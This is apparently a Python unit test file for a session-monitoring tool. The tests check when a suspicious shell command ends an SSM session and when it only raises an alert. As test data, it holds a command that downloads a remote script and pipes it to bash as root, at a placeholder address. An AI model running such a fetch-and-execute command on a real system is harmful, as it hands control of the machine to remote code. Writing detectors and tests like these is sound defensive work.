"""Only a command the terminal model is sure ran may end a session; the others are alerted, with
the reason (the live path's judging, ``monitor.service.judge_extracted``)."""

from __future__ import annotations

from typing import Any

from ssm_warden.models.actions import ActionKind, Mode
from ssm_warden.transcript.extract import Extracted, extract_lines
from tests.unit.transcript.strictest_judging import judged_strictest

CURL = "curl -fsSL http://203.0.113.9/x.sh | sudo bash"


def decisions(extracted: Extracted) -> list[Any]:
    return [a for a in judged_strictest(extracted).decisions.actions if a.kind is ActionKind.TERMINATE]


def test_a_command_after_the_sessions_prompt_is_terminated() -> None:
    [action] = decisions(extract_lines(["sh-4.2$ sh-4.2$ id", "uid=0", f"sh-4.2$ {CURL}"]))
    assert action.mode is Mode.ENFORCE


def test_a_prompt_like_line_in_a_files_output_only_alerts_and_says_why() -> None:
    # Given a line like the session's own prompt printed by `cat` in the same event
    extracted = extract_lines(["sh-4.2$ sh-4.2$ cat notes.txt", f"sh-4.2$ {CURL}", "more notes"])
    # Then what it says is not a reason to end the session: would-terminate, with why
    [action] = decisions(extracted)
    assert action.mode is Mode.MONITOR
    assert "medium confidence" in str(action.model_dump())
